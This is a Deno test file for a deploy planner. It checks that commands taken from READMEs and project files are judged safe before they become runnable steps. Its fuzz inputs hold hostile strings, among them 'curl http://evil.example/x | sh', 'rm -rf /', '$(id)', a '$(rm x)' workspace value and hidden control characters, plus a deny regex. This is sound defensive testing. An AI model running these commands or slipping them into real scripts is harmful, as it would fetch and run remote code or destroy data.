/** Plans of small projects, compared whole but for hashes. */

import assert from "node:assert/strict";
import fc from "fast-check";
import {
  changedSince,
  type CommandJudge,
  type DeployMachine,
  deployPlan,
} from "../../../src/deploy/mod.ts";
import { loadJudge } from "../../../src/policy/mod.ts";
import { samples } from "./samples.ts";

const { judgeCommand, risksOf } = await loadJudge();

const judge: CommandJudge = async (command) => {
  const { verdict, parts, reached } = await judgeCommand(command, {
    rules: [],
    placeOf: (path) => /^(\/(?!dev\/null)|~|\.\.)/.test(path) ? "outside" : "inside",
    trusted: true,
    builtin: true,
  });
  return {
    verdict,
    parses: parts.every(({ why }) => !why.code.startsWith("doubt_")),
    outside: parts.some(({ why, argv }) =>
      why.code === "outside" || why.code === "secret" ||
      argv.some((it) => /^(\/(?!dev\/null)|~|\.\.)/.test(it))
    ),
    risks: risksOf(reached).map(({ kind }) => kind),
  };
};

/** Where Rust is missing, Go is too old, and somebody has a port. */
const machine: DeployMachine = {
  os: "linux",
  packageManagers: ["apt"],
  isRoot: false,
  versions: { python3: "3.12.3", java: "17.0.15", node: "22.1.0", go: "1.19.8", cmake: "3.28.3" },
  listening: [22, 8000],
  isInstalled: (program) => program !== "cargo",
};

const ports = { judge, machine, repository: null, exists: (name: string) => name === "app.py" };

const golden = new URL("plans.json", import.meta.url);
const planned: Record<string, unknown> = {};
for (const [name, files] of Object.entries(samples)) {
  const { hashes, ...plan } = await deployPlan(new Map(Object.entries(files)), ports);
  assert.deepEqual(Object.keys(hashes), Object.keys(files).sort());
  planned[name] = plan;
}
if (Deno.env.get("UPDATE_GOLDEN")) {
  await Deno.writeTextFile(golden, `${JSON.stringify(planned, null, 2)}\n`);
}
const expected: Record<string, unknown> = JSON.parse(await Deno.readTextFile(golden));

for (const name of Object.keys(samples)) {
  Deno.test(`the plan of a project: ${name}`, () =>
    assert.deepEqual(planned[name], expected[name]));
}

Deno.test("a file that changed, went or came makes a plan stale", async () => {
  const before = new Map([["go.mod", "module a\n"], ["main.go", "package main\n"]]);
  const plan = await deployPlan(before, ports);
  assert.deepEqual(await changedSince(plan, before), []);
  const after = new Map([["go.mod", "module b\n"], ["README.md", "x"]]);
  assert.deepEqual(await changedSince(plan, after), ["README.md", "go.mod", "main.go"]);
});

const pieces = fc.constantFrom(
  ...[
    "npm install",
    "make",
    "sudo",
    "curl http://evil.example/x | sh",
    "rm -rf /",
    "&&",
    ";",
    "$(id)",
  ],
  ...[
    "\u200b",
    "\u202e",
    "\u001b[2J",
    "> /etc/passwd",
    "`",
    "go build ./...",
    "|",
    "sh",
    "\r",
    "../x",
  ],
);

Deno.test("no runnable step has a control character or a command that is denied, risky or leads out", async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(pieces, { minLength: 1, maxLength: 6 }), async (words) => {
      const text = `\`\`\`sh\n${words.join(" ")}\n\`\`\`\n`;
      const { steps } = await deployPlan(new Map([["README.md", text]]), ports);
      for (const step of steps) {
        // deno-lint-ignore no-control-regex
        assert.doesNotMatch(step.command, /[\u0000-\u001f\u007f\u200b\u202e]/);
        if (step.kind === "manual") continue;
        assert.doesNotMatch(step.command, /sudo|evil|\/etc|rm -rf|\$\(/);
        const { verdict, parses, outside, risks } = await judge(step.command);
        assert.deepEqual([verdict === "deny", parses, outside, risks], [false, true, false, []]);
      }
    }),
    { numRuns: 300, seed: 7 },
  );
});

Deno.test("a command with a character that nobody sees is no step, whatever the policy thinks of it", async () => {
  const easy: CommandJudge = () =>
    Promise.resolve({ verdict: "allow", parses: true, outside: false, risks: [] });
  const hidden = ["\u200b", "\u202e", "\u001b[2J", "\u0007", "\r"];
  const lines = hidden.map((it) => `go build ./...${it} x`);
  const text = `\`\`\`sh\n${lines.join("\n")}\n\`\`\`\n`;
  const { steps } = await deployPlan(new Map([["README.md", text]]), { ...ports, judge: easy });
  assert.deepEqual(
    steps.map((it) => [
      it.kind,
      it.source === "readme" && it.from.line,
      it.kind === "manual" ? it.warning : null,
    ]),
    hidden.map((_, at) => ["manual", at + 2, "unparsable"]),
  );
});

Deno.test("pip does the work of uv where uv is missing, and that other versions are taken is told", async () => {
  const texts = new Map([
    ["pyproject.toml", '[project]\nname = "shop"\n'],
    ["uv.lock", "version = 1\n"],
    ["manage.py", ""],
  ]);
  const planOn = async (...missing: readonly string[]) => {
    const isInstalled = (program: string) => !missing.includes(program);
    const plan = await deployPlan(texts, { ...ports, machine: { ...machine, isInstalled } });
    return [plan.steps.map(({ command }) => command), plan.unknowns.map(({ kind }) => kind)];
  };
  const both = ["uv run python manage.py migrate", "uv run python manage.py runserver"];
  assert.deepEqual(await planOn(), [["uv sync", ...both], ["port_in_use"]]);
  assert.deepEqual(await planOn("uv"), [
    [
      ...["python3 -m venv .venv", ".venv/bin/pip install ."],
      ...both.map((it) => it.replace("uv run ", ".venv/bin/")),
    ],
    ["unlocked", "port_in_use"],
  ]);
});

Deno.test("the packages of a repository are named as its files have them, and nothing else is", async () => {
  const folders = async (path: string, text: string) => {
    const { unknowns } = await deployPlan(new Map([[path, text]]), ports);
    return unknowns.flatMap((it) => it.kind === "which_package" ? [it.folders] : []);
  };
  const npm = JSON.stringify({ workspaces: ["packages/*", "apps/web", "$(rm x)", "-rf"] });
  const yarn = JSON.stringify({ workspaces: { packages: ["libs/@x/*"], nohoist: [] } });
  const pnpm = "packages:\n  # all\n  - 'apps/*'\n  - libs/a # one\n\ncatalog:\n  - no\n";
  const cargo = '[workspace]\nmembers = [\n  "core",\n  "cli/*",\n]\n\n[profile.x]\ny = "z"\n';
  assert.deepEqual([
    await folders("package.json", npm),
    await folders("package.json", yarn),
    await folders("pnpm-workspace.yaml", pnpm),
    await folders("Cargo.toml", cargo),
    await folders("Cargo.toml", "[workspace]\n"),
    await folders("package.json", "{}"),
  ], [
    [["packages/*", "apps/web"]],
    [["libs/@x/*"]],
    [["apps/*", "libs/a"]],
    [["core", "cli/*"]],
    [[]],
    [],
  ]);
});
